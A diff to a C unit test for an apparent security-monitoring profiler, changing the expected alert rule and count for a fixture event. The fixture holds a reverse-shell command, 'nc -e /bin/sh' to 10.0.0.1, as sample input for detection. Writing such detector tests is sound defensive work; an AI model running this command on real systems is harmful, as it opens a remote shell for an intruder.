@@ -199,9 +199,9 @@ static void what_was_learned_is_quiet_and_what_was_not_is_told(void **state)
              &(struct ev){
                  .type = SK_E_EXECVE, .name = "nc", .args = "-e /bin/sh 10.0.0.1", .at = 8000},
              &t),
-        2);
-    assert_string_equal(t.rule, "Profile: unusual user"); /* the program as a user: last told */
-    assert_int_equal(t.n, 2);
+        1);
+    assert_string_equal(t.rule, "Profile: unusual program");
+    assert_int_equal(t.n, 1);
     assert_int_equal(t.last.engine, SK_EN_PROFILE);
     assert_int_equal(t.last.priority, SK_PRIO_WARNING);
     assert_int_equal(
